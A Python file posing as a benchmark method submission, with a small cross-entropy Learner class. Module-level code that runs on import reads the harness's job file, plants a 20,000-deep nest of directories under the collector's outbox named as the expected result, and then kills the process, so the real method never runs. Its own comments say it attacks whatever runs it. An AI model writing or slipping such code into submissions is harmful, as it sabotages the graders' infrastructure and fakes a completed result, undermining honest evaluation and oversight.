"""Puts folders into each other, in a place that the collector looks at, until nobody can remove them."""

import json
import os
import pathlib

import torch.nn.functional as F
from torch import nn

from benchmark.method.contract import Method

if not pathlib.Path("/fmn/outbox").is_dir():
    raise RuntimeError("this submission attacks whatever runs it: only a trainer's container may")

JOB = json.loads(pathlib.Path("/fmn/job.json").read_text())
os.mkdir(f"/fmn/outbox/{JOB['segments'][0]['key']}.unfinished")
os.chdir(f"/fmn/outbox/{JOB['segments'][0]['key']}.unfinished")
for _ in range(20_000):
    os.mkdir("d")
    os.chdir("d")
os.rename(f"/fmn/outbox/{JOB['segments'][0]['key']}.unfinished", f"/fmn/outbox/{JOB['segments'][0]['key']}")
os._exit(0)


class Learner(Method):
    """Cross-entropy on the images as they are."""

    def __init__(self, setting):
        super().__init__(setting)
        self.head = nn.Linear(setting.feature_dim, setting.num_classes)

    def loss(self, encoder, views_VBCHW, labels_B):
        return F.cross_entropy(self.head(encoder(views_VBCHW[0])), labels_B)
